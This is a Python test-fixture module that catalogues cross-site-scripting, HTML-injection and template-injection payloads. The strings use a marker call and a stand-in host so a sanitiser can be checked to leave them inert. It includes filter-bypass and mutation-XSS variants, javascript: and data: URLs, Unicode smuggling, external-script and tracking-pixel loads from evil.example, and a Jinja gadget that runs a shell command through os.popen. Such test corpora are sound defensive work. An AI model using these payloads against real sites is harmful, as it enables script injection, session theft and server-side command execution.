"""Texts that must stay texts: `__ran(1)` in them is a script that ran, `evil.example` a request that left.

Shapes that are known to get past filters: elements, events, broken attributes, addresses, drawings and formulas, text
that changes when it is parsed twice, templates, comments, styles, signs that hide or turn, and Markdown's own ways.
"""

SUM = 7000021  # what a template engine would make of {{7*1000003}}

# fmt: off
ELEMENTS = (
    "<script>__ran(1)</script>",
    "<ScRiPt >__ran(1)</sCrIpT >",
    "<script/x>__ran(1)</script/y>",
    "<<script>__ran(1)//<</script>",
    "<scr<script>ipt>__ran(1)</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    '<script src="data:text/javascript,__ran(1)"></script>',
    "<script type=module>__ran(1)</script>",
    "&lt;script&gt;__ran(1)&lt;/script&gt;",
    "\\u003cscript\\u003e__ran(1)\\u003c/script\\u003e",
    '<iframe srcdoc="<script>parent.__ran(1)</script>"></iframe>',
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<form action=javascript:__ran(1)><button>Press</button></form>",
)
EVENTS = (
    "<img src=x onerror=__ran(1)>",
    "<img/src=x/onerror=__ran(1)>",
    "<body onload=__ran(1)>",
    "<svg onload=__ran(1)>",
    "<details open ontoggle=__ran(1)>x</details>",
    "<input autofocus onfocus=__ran(1)>",
    '<video><source onerror="__ran(1)"></video>',
    "<a href=# onclick=__ran(1)>x</a>",
    "<p onpointerenter=__ran(1)//>x</p>",
)
BREAKS = (
    '"><img src=x onerror=__ran(1)>',
    "'><img src=x onerror=__ran(1)>",
    '" onmouseover="__ran(1)',
    "' onmouseover='__ran(1)",
    '" autofocus tabindex=1 onfocus="__ran(1)" x="',
    "` onmouseover=__ran(1) `",
    "</title><script>__ran(1)</script>",
    "</textarea><script>__ran(1)</script>",
    "</style><script>__ran(1)</script>",
    "</script><script>__ran(1)</script>",
    '"}</script ><script>__ran(1)</script>{"',
    "</time></p></article></main></body></html><script>__ran(1)</script>",
)
ADDRESSES = (
    "javascript:__ran(1)",
    "JaVaScRiPt:__ran(1)",
    "java\tscript:__ran(1)",
    "java\nscript:__ran(1)",
    "\x01javascript:__ran(1)",
    " javascript:__ran(1)",
    "&#106;avascript:__ran(1)",
    "&#x6A;&#x61;vascript:__ran(1)",
    "javascript&colon;__ran(1)",
    "java&Tab;script:__ran(1)",
    "javascript://newsroom.example/%0a__ran(1)",
    "data:text/html,<script>parent.__ran(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW4oMSk8L3NjcmlwdD4=",
    "vbscript:__ran(1)",
    'https://evil.example" onmouseover="__ran(1)',
    "https://user@evil.example/<img src=x onerror=__ran(1)>",
)
FOREIGN = (
    "<svg><script>__ran(1)</script></svg>",
    "<svg><animate onbegin=__ran(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:__ran(1)"><text y=9>x</text></a></svg>',
    '<math href="javascript:__ran(1)">x</math>',
    "<svg><foreignObject><img src=x onerror=__ran(1)></foreignObject></svg>",
)
TWICE = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__ran(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__ran(1)>",
    '<noscript><p title="</noscript><img src=x onerror=__ran(1)>">',
    '<svg></p><style><a id="</style><img src=x onerror=__ran(1)>">',
    '<p title="<!--"><img src=x onerror=__ran(1)>-->',
    "<template><img src=x onerror=__ran(1)></template><select><template><img src=x onerror=__ran(1)>",
)
TEMPLATES = (
    "{{7*1000003}}",
    "{% set a = 7*1000003 %}{{ a }}",
    "{{ cycler.__init__.__globals__.os.popen('expr 7 \\* 1000003').read() }}",
    "${7*1000003} #{7*1000003} <%= 7*1000003 %>",
    "{% raw %}{# {{ '</script><script>__ran(1)</script>'|safe }} #}{% endraw %}",
    "%(title)s {0.__class__} {title!r} %s",
)
COMMENTS = (
    "--><script>__ran(1)</script><!--",
    "<!--><img src=x onerror=__ran(1)>-->",
    "--!><img src=x onerror=__ran(1)>",
    "<![CDATA[<script>__ran(1)</script>]]>",
    "]]><script>__ran(1)</script>",
    "<?php <img src=x onerror=__ran(1)> ?>",
    "<!DOCTYPE x [<!ENTITY e '<script>__ran(1)</script>'>]>&e;",
)
STYLES = (
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<p style="background:url(//evil.example/x.png)">x</p>',
    "<img src=//evil.example/pixel.png>",
    '"; background: url(//evil.example/y.png); x: "',
    "}</style><style>*{background:url(//evil.example/z.png)}",
)
SIGNS = (
    "\u2028</script><script>__ran(1)//",
    "\u202e<img src=x onerror=__ran(1)>\u202c",
    "<\x00script>__ran(1)</script>",
    "<scr\x00ipt>__ran(1)</scr\x00ipt>",
    "\ufeff<script>__ran(1)</script>",
    "＜script＞__ran(1)＜/script＞",
    "+ADw-script+AD4-__ran(1)+ADw-/script+AD4-",
    "مرحبا \u2067<bdo dir=rtl><img src=x onerror=__ran(1)></bdo>\u2069",
)
MARKDOWN = (
    "[x](javascript:__ran(1))",
    "![x](javascript:__ran(1))",
    "<javascript:__ran(1)>",
    "[a](<java\tscript:__ran(1)>)",
    "[a](data:text/html,<script>parent.__ran(1)</script>)",
    '[a](https://newsroom.example "\\" onmouseover=\\"__ran(1)")',
    '![a](https://evil.example/pixel.png "x")',
    '```"><script>__ran(1)</script>\n</code></pre><script>__ran(1)</script>\n```',
    '[^"><img src=x onerror=__ran(1)>]\n\n[^"><img src=x onerror=__ran(1)>]: <img src=x onerror=__ran(1)>',
    "|<img src=x onerror=__ran(1)>|\n|:-:|\n|</td></table><img src=x onerror=__ran(1)>|",
)
# fmt: on

PAYLOADS = (
    *ELEMENTS,
    *EVENTS,
    *BREAKS,
    *ADDRESSES,
    *FOREIGN,
    *TWICE,
    *TEMPLATES,
    *COMMENTS,
    *STYLES,
    *SIGNS,
    *MARKDOWN,
)
